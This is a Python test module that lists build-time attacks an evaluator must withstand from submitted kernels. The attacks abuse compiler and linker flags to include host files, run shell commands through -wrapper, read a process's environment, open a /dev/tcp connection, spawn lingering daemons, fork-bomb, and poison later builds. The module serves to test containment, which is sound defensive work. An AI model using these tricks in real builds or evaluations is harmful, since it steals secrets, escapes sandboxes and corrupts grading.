"""Attacks by what a candidate has built: its sources, its flags, and the programs that its flags run."""

from __future__ import annotations

import os
import shlex
from pathlib import Path
from typing import TYPE_CHECKING, Any

from attack import BuildAttack
from targets import running

from kernelevo_api.types import Verdict

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

BUILDS: list[BuildAttack] = []

_EMPTY = "int x;\n"
_LIMITED = frozenset({Verdict.TIMEOUT, Verdict.OUT_OF_MEMORY, Verdict.COMPILE_ERROR})
_ROOT = os.geteuid() == 0


def _attack(name: str, asked: Callable[[Mapping[str, Any]], Mapping[str, Any]], **fields: Any) -> None:
    BUILDS.append(BuildAttack(name=name, asked=asked, **fields))


def _bomb(name: str, asked: Callable[[Mapping[str, Any]], Mapping[str, Any]], **fields: Any) -> None:
    """It wants nothing but to use things up, so there is no harmless control."""
    _attack(name, asked, **{"answers": _LIMITED, "control": False, "seconds": 1.5, **fields})


def _source(*texts: str) -> dict[str, Any]:
    return {"cpp_sources": texts}


def _instead(command: str) -> tuple[str, str]:
    """Flags with which the compiler's driver hands each of its commands to a shell; `"$@"` is the command."""
    assert "," not in command  # which would begin another word
    return "-wrapper", shlex.quote(f"sh,-c,{command},sh")


def _compiling(command: str, *texts: str) -> dict[str, Any]:
    return {"cpp_sources": texts or (_EMPTY,), "cflags": _instead(command)}


def _linking(command: str) -> dict[str, Any]:
    return {"cpp_sources": (_EMPTY,), "ldflags": _instead(command)}


# What the compiler can be made to read and to quote

for _name, _key in (
    ("include a host file", "secret"),
    ("include the evaluator's results", "results"),
):
    _attack(_name, lambda given, key=_key: _source(f'#include "{given[key]}"\n'))  # type: ignore[misc]
_attack(
    "include what another candidate's compiler said", lambda given: _source(f'#include "{given["store"]}/other.json"\n')
)
_attack(
    "probe for a host file",
    lambda given: _source(f'#if __has_include("{given["secret"]}")\n#error {given["token"]}\n#endif\n' + _EMPTY),
    builds=True,
    tells=lambda given: (given["token"],),
)
_attack("embed a host file by the assembler", lambda given: _source(f'asm(".incbin \\"{given["secret"]}\\"");\n'))
_attack("embed another candidate's object", lambda given: _source(f'asm(".incbin \\"{given["store"]}/other.so\\"");\n'))
_attack(
    "embed a host file by the linker",
    lambda given: {
        "cpp_sources": (_EMPTY,),
        "ldflags": ("-Wl,--format=binary", given["secret"], "-Wl,--format=default"),
    },
)
_attack(
    "a linker script that pulls in a host file",
    lambda given: _linking(f'echo "TARGET(binary) INPUT({given["secret"]})" >l.ld; exec "$@" l.ld'),
)
_attack(
    "a host file as the linker's version script",
    lambda given: {"cpp_sources": (_EMPTY,), "ldflags": (f"-Wl,--version-script={given['secret']}",)},
    tells=lambda given: ("syntax error",),
)
_attack(
    "a host file as the compiler's flags", lambda given: {"cpp_sources": (_EMPTY,), "cflags": (f"@{given['secret']}",)}
)
_attack(
    "a #pragma that reads a precompiled host file",
    lambda given: {
        "cpp_sources": (_EMPTY,),
        "cflags": (
            *_instead(f'echo "#pragma GCC pch_preprocess \\"{given["secret"]}\\"" >main.cpp; exec "$@"'),
            "-fpreprocessed",
        ),
    },
    tells=lambda given: ("PCH file was invalid",),
)
_attack(
    "another candidate's object as a plug-in",
    lambda given: {"cpp_sources": (_EMPTY,), "cflags": (f"-fplugin={given['store']}/other.so",)},
    tells=lambda given: ("file too short", "invalid ELF header"),
)

# What it can be made to write

_attack(
    "write dependencies to a host file",
    lambda given: {"cpp_sources": (_EMPTY,), "cflags": ("-MD", "-MF", given["drop"])},
    builds=True,
    seen=lambda given: Path(given["drop"]).exists(),
)
_attack(
    "write the linker's map over a host file",
    lambda given: {"cpp_sources": (_EMPTY,), "ldflags": (f"-Wl,-Map={given['secret']}",)},
    seen=lambda given: Path(given["secret"]).read_text() != given["secret_text"],
)

# What it can be made to run

_attack(
    "a program in the compiler's place",
    lambda given: _compiling(f"cat {given['secret']} >&2; touch {given['drop']}; exit 1"),
    seen=lambda given: Path(given["drop"]).exists(),
)
_attack(
    "a plug-in of its own in the compiler",
    lambda given: {
        "cpp_sources": (
            "#ifdef PLUGIN\n#include <cstdlib>\n"
            f'__attribute__((constructor)) static void f() {{ (void)!system("touch {given["drop"]}"); }}\n'
            "#else\nint x;\n#endif\n",
        ),
        "cflags": (
            *_instead('test -e p.so || g++ -DPLUGIN -shared -fPIC main.cpp -o p.so; exec "$@"'),
            "-fplugin=./p.so",
        ),
    },
    seen=lambda given: Path(given["drop"]).exists(),
)
_attack(
    "the evaluator's environment, by a program in the compiler's place",
    lambda given: _compiling(f"cat /proc/{given['victim']}/environ >&2; exit 1"),
    tells=lambda given: (given["canary"],),
    control=_ROOT,
)
_attack(
    "connect to the host from a build",
    lambda given: _compiling(
        f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{given['port4']} && echo {given['token'][:5]}''{given['token'][5:]}' >&2; exit 1"
    ),
    tells=lambda given: (given["token"],),
)
_attack(
    "a daemon that outlives the build",
    lambda given: _compiling(f'setsid sleep 77{given["victim"]} >/dev/null 2>&1 & exec "$@"'),
    builds=True,
    seen=lambda given: running(f"77{given['victim']}"),
    control=False,
)
_bomb("fork without end while building", lambda given: _compiling("f() { f | f & }; f; sleep 9; exit 1"))

# What uses things up

_bomb("include an endless file", lambda given: _source('#include "/dev/zero"\n'))
_bomb("include a pipe that nobody writes", lambda given: _compiling('mkfifo pipe; exec "$@"', '#include "pipe"\n'))
_bomb(
    "a template bomb",
    lambda given: _source(
        "template <int N, int M> struct G { typedef typename G<N-1, 2*M>::t a; typedef typename G<N-1, 2*M+1>::t b; };\n"
        "template <int M> struct G<0, M> { typedef int t; }; G<26, 1>::a x;\n"
    ),
)
_bomb(
    "a macro bomb",
    lambda given: _source(
        "#define A0 x x x x x x x x\n"
        + "".join(f"#define A{n + 1} A{n} A{n} A{n} A{n} A{n} A{n} A{n} A{n}\n" for n in range(12))
        + "A12\n"
    ),
)
_bomb("an object of gigabytes", lambda given: _source('asm(".data\\n.fill 4000000000, 1, 1");\n'))
_bomb("temporary files without end", lambda given: _compiling('for n in 1 2 3 4 5 6 7 8; do yes >f$n; done; exec "$@"'))
_bomb("messages without end", lambda given: _compiling("yes >&2; exit 1"))
_bomb("output without end, past the log", lambda given: _linking("yes; exit 1"))

# What it leaves in its object's place

_attack(
    "a link to a host file as the object",
    lambda given: _linking(f"ln -sf {given['secret']} object.so"),
    answers=frozenset({Verdict.COMPILE_ERROR}),
)
_bomb("a pipe as the object", lambda given: _linking("rm -f object.so; mkfifo object.so"))
_bomb("an endless device as the object", lambda given: _linking("ln -sf /dev/zero object.so"))
_attack(
    "an object that runs where it was built",
    lambda given: _source(
        "#include <cstdlib>\n"
        f'__attribute__((constructor)) static void f() {{ (void)!system("touch {given["drop"]}"); }}\n'
        'extern "C" { typedef int (*call)(); static int one() { return 1; }\n'
        f'static call choose() {{ (void)!system("touch {given["drop"]}"); return one; }}\n'
        'int chosen() __attribute__((ifunc("choose"))); }\n'
    ),
    builds=True,
    answers=frozenset({Verdict.COMPILE_ERROR}),
    seen=lambda given: Path(given["drop"]).exists(),
    control=False,
)

# What it leaves to the next candidate

_NEXT = 'extern "C" int next() { return 1; }\n'
_attack(
    "an object under the name of another's build",
    lambda given: _compiling(f'echo {given["token"]} >{given["place"]}; exec "$@"'),
    after=lambda given: _source(_NEXT),
    builds=True,
    tells=lambda given: (given["token"],),
)
_attack(
    "a header for the next build",
    lambda given: _compiling(f'echo "#error {given["token"]}" >{given["drop"]}; exec "$@"'),
    after=lambda given: _source(f'#if __has_include("{given["drop"]}")\n#include "{given["drop"]}"\n#endif\n' + _NEXT),
    builds=True,
    tells=lambda given: (given["token"],),
)

# By nvcc


def _cuda(text: str, *flags: str) -> dict[str, Any]:
    return {"cuda_sources": (text,), "cuda_cflags": flags}


_attack(
    "include a host file in CUDA",
    lambda given: _cuda(f'#include "{given["secret"]}"\n'),
    cuda=True,
    memory_bytes=2 << 30,
)
_attack(
    "keep nvcc's files in a host folder",
    lambda given: _cuda("__global__ void k() {}\n", "--keep", f"--keep-dir={given['store']}"),
    seen=lambda given: any(one.suffix == ".ptx" for one in Path(given["store"]).iterdir()),
    cuda=True,
    seconds=60.0,
    memory_bytes=2 << 30,
)
_bomb(
    "a template bomb in a kernel",
    lambda given: _cuda(
        "template <int N, int M> struct G { static __device__ long v() { return G<N-1, 2*M>::v() + G<N-1, 2*M+1>::v(); } };\n"
        "template <int M> struct G<0, M> { static __device__ long v() { return M; } };\n"
        "__global__ void k(long* x) { *x = G<26, 1>::v(); }\n"
    ),
    cuda=True,
    memory_bytes=2 << 30,
)
